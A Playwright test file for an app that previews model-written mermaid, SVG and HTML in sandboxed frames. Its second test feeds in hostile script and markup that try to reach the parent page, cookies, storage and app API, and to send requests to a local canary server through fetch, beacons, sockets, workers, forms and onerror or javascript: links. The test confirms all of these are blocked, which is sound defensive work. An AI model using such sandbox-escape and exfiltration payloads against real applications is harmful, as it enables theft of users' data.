import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { FakeVendor } from '../support/fakeVendor';
import { expect, test } from './couplet';
import { call, seedConnections } from './seed';

/** A server that must never be reached: what a model wrote has no way out. */
async function startCanary() {
  const seen: string[] = [];
  const server = createServer((request, response) => {
    seen.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
  const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { seen, address, close: () => server.close() };
}

async function answerWith(page: Page, vendor: FakeVendor, text: string): Promise<void> {
  vendor.next({ kind: 'answer', text, pieceMs: 0 });
  const [connectionId] = await seedConnections(page, [{ vendorId: 'custom', baseUrl: vendor.baseUrl }]);
  await call(page, 'conversation.create', { lanes: [{ connectionId: connectionId ?? '', modelId: 'fake-model' }] });
  await page.reload();
  await page.getByRole('textbox', { name: 'Message all lanes' }).fill('Draw it');
  await page.getByRole('button', { name: 'Send', exact: true }).click();
  await expect(page.locator('article[data-status="done"]')).toHaveCount(1, { timeout: 20_000 });
}

const fence = (language: string, code: string) => `\`\`\`${language}\n${code}\n\`\`\`\n`;

let vendor: FakeVendor;
test.beforeEach(async () => {
  vendor = await FakeVendor.start({ style: 'deepseek' });
});
test.afterEach(() => vendor.close());

test('diagrams, pictures and pages are shown in a frame of their own when the reader asks, and the code comes back', async ({
  couplet: { page },
}) => {
  await answerWith(
    page,
    vendor,
    [
      fence('mermaid', 'graph LR\n  A[提问] --> B{比较}\n  B --> C[Kimi]\n  B --> D[Qwen]'),
      fence('svg', '<svg width="120" height="60"><circle cx="60" cy="30" r="25" fill="teal"/></svg>'),
      fence(
        'html',
        '<h1 id="x">Hello</h1><script>document.getElementById("x").textContent = "Written by a script"</script>',
      ),
      fence('mermaid', 'graph LR\n  A[unfinished --> '),
    ].join('\n'),
  );
  await expect(page.locator('iframe')).toHaveCount(0);
  const article = page.getByRole('article');

  await article.getByRole('button', { name: 'Show diagram' }).first().click();
  const diagram = page.frameLocator('iframe[title="Preview of mermaid code"]');
  await expect(diagram.locator('svg')).toContainText('比较');

  await article.getByRole('button', { name: 'Show picture' }).click();
  await expect(page.frameLocator('iframe[title="Preview of svg code"]').locator('img')).toBeVisible();

  await article.getByRole('button', { name: 'Show page' }).click();
  await expect(page.frameLocator('iframe[title="Preview of html code"]').locator('h1')).toHaveText(
    'Written by a script',
  );

  await article.getByRole('button', { name: 'Show code' }).last().click();
  await expect(page.locator('iframe')).toHaveCount(2);
  await expect(article.getByText('<h1 id="x">')).toBeVisible();

  await article.getByRole('button', { name: 'Show diagram' }).last().click();
  await expect(article.getByRole('status').getByText('This cannot be shown')).toBeVisible({ timeout: 15_000 });
  await expect(page.locator('iframe')).toHaveCount(2);
});

test('what a model wrote reaches neither the page nor a network, and is gone when it never ends', async ({
  couplet: { app, page },
}) => {
  const canary = await startCanary();
  const attacks = `
    const out = [];
    const attempt = (name, run) => { try { const result = run(); out.push(name + ':' + (result === null || result === undefined || result === false ? 'no' : 'YES')); } catch { out.push(name + ':no'); } };
    attempt('parent', () => parent.document.body);
    attempt('top', () => top.location.href);
    attempt('api', () => window.api ?? parent.api);
    attempt('storage', () => localStorage);
    attempt('cookie', () => document.cookie);
    attempt('popup', () => window.open('${canary.address}/popup'));
    attempt('confirm', () => confirm('?'));
    attempt('origin', () => self.origin !== 'null');
    fetch('${canary.address}/fetch').catch(() => 0);
    navigator.sendBeacon('${canary.address}/beacon', 'x');
    new Image().src = '${canary.address}/image';
    try { new WebSocket('${canary.address.replace('http', 'ws')}/socket') } catch {}
    try { new EventSource('${canary.address}/events') } catch {}
    try { new Worker(URL.createObjectURL(new Blob(['fetch("${canary.address}/worker")']))) } catch {}
    import('${canary.address}/module.js').catch(() => 0);
    const form = document.createElement('form'); form.action = '${canary.address}/form'; document.body.append(form); form.submit();
    try { top.location = '${canary.address}/top' } catch {}
    document.body.insertAdjacentHTML('beforeend', '<p id="out"></p><iframe src="${canary.address}/frame"></iframe><iframe src="app://couplet/index.html"></iframe><object data="${canary.address}/object"></object><link rel="prefetch" href="${canary.address}/prefetch"><button id="go">go</button>');
    document.getElementById('out').textContent = out.join(' ');
    document.getElementById('go').onclick = () => {
      const link = document.createElement('a'); link.href = '${canary.address}/link'; link.download = 'x'; document.body.append(link); link.click();
      document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=${canary.address}/refresh">');
      location.href = '${canary.address}/location';
    };`;
  await answerWith(
    page,
    vendor,
    [
      fence('html', `<link rel="stylesheet" href="${canary.address}/style.css"><body><script>${attacks}</script>`),
      fence(
        'mermaid',
        `graph TD\n  A@{ img: "${canary.address}/node.png", label: "x" }\n  B["<img src=${canary.address}/label onerror=alert(1)>"]\n  click B "javascript:alert(1)"\n  click A "${canary.address}/click"`,
      ),
      fence(
        'svg',
        `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="fetch('${canary.address}/svg')"><image href="${canary.address}/feimage"/><script>fetch('${canary.address}/svgscript')</script></svg>`,
      ),
      fence('html', '<p>busy</p><script>setTimeout(() => { for (;;); }, 300)</script>'),
    ].join('\n'),
  );
  const show = async (name: string, index: number) =>
    page.getByRole('article').getByRole('button', { name }).nth(index).click();

  await show('Show page', 0);
  const hostile = page.frameLocator('iframe[title="Preview of html code"]').first();
  await expect(hostile.locator('#out')).toHaveText(
    'parent:no top:no api:no storage:no cookie:no popup:no confirm:no origin:no',
  );
  // A frame that tried to go elsewhere shows nothing any more and is taken away, like one that does not answer.
  await hostile.locator('#go').click();
  await expect(page.getByText('This took too long and was stopped')).toBeVisible({ timeout: 20_000 });
  await show('Show diagram', 0);
  await show('Show picture', 0);
  await expect(page.frameLocator('iframe[title="Preview of mermaid code"]').locator('svg')).toBeVisible();
  await expect(page.frameLocator('iframe[title="Preview of mermaid code"]').locator('a, image')).toHaveCount(0);

  // The endless one: this page goes on, and the frame is taken away.
  await show('Show page', 1);
  await expect(page.getByText('This took too long and was stopped')).toHaveCount(2, { timeout: 20_000 });
  await page.getByRole('textbox', { name: 'Message all lanes' }).fill('still here');
  await expect(page.getByRole('textbox', { name: 'Message all lanes' })).toHaveValue('still here');

  expect(page.url()).toBe('app://couplet/index.html');
  expect(canary.seen).toEqual([]);
  expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
  canary.close();
});
